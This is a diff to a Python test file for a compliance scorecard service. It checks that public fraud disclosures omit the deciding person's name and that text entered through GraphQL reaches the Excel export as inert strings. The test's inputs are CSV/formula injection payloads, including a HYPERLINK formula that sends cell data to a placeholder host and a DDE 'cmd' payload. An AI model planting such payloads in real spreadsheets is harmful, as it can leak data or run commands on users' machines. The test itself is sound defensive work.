@@ -190,6 +190,7 @@ def test_R7_2_fraud_falsified_scorecard_is_disclosed_to_anyone(system: RunningSy
     public = api.gql(gql.DISCLOSURES, {}, None)  # anonymous
     assert "errors" not in public, public
     nodes = [e["node"] for e in public["data"]["falsificationDisclosures"]["edges"]]
+    # The agency and the role that decided, never the person (issue 11, item 8).
     assert {
         "unitName": "绿源化工有限公司",
         "party": "某环保服务公司项目组",
@@ -197,4 +198,43 @@ def test_R7_2_fraud_falsified_scorecard_is_disclosed_to_anyone(system: RunningSy
         "grade": "UNQUALIFIED",
         "total": "0.00",
         "periodLabel": "2027",
+        "agencyId": AGENCY,
+        "decidedAs": "agency_admin",
     } in nodes
+    assert "admin-chen" not in str(public)
+    asked = api.gql("{ falsificationDisclosures { edges { node { decidedBy } } } }", {}, None)
+    assert "Cannot query field 'decidedBy'" in asked["errors"][0]["message"]
+
+
+INJECTION = '=HYPERLINK("http://x/?"&A1,"click")'
+
+
+def test_user_text_reaches_the_xlsx_as_inert_strings_never_formulas(system: RunningSystem):
+    """Issue 11, item 3: the payload found by probing, through GraphQL into Scorecard.xlsx."""
+    api = system.api
+    _, eng_id = gql.engagement(api, ADMIN)
+    card = gql.open_for(api, WANG, eng_id)["scorecard"]
+    scored = score(api, WANG, card["id"], "一.1", "5", justification=INJECTION)
+    assert scored["__typename"] == "ScorecardSuccess", scored
+    gql.run(
+        api,
+        gql.FALSIFY,
+        ADMIN,
+        input={
+            "scorecardId": card["id"],
+            "party": "@SUM(1+1)",
+            "finding": "+cmd|' /C calc'!A0",
+            "evidence": [{"kind": "DOCUMENT", "ref": "-2+3"}],
+        },
+    )
+    export = gql.run(api, gql.XLSX, ADMIN, id=card["id"])["xlsx"]
+    book = load_workbook(BytesIO(base64.b64decode(export["contentBase64"])))
+    cells = [c for sheet in book.worksheets for row in sheet.iter_rows() for c in row]
+    assert [c.coordinate for c in cells if c.data_type == "f"] == []
+    by_value = {c.value: c for c in cells if isinstance(c.value, str)}
+    justification = by_value["'" + INJECTION]
+    assert justification.data_type == "s"
+    assert by_value["'@SUM(1+1)：+cmd|' /C calc'!A0"].data_type == "s"
+    # Every text cell that starts like a formula was neutralised.
+    starts = ("=", "+", "-", "@", "\t", "\r")
+    assert [c.value for c in cells if isinstance(c.value, str) and c.value.startswith(starts)] == []
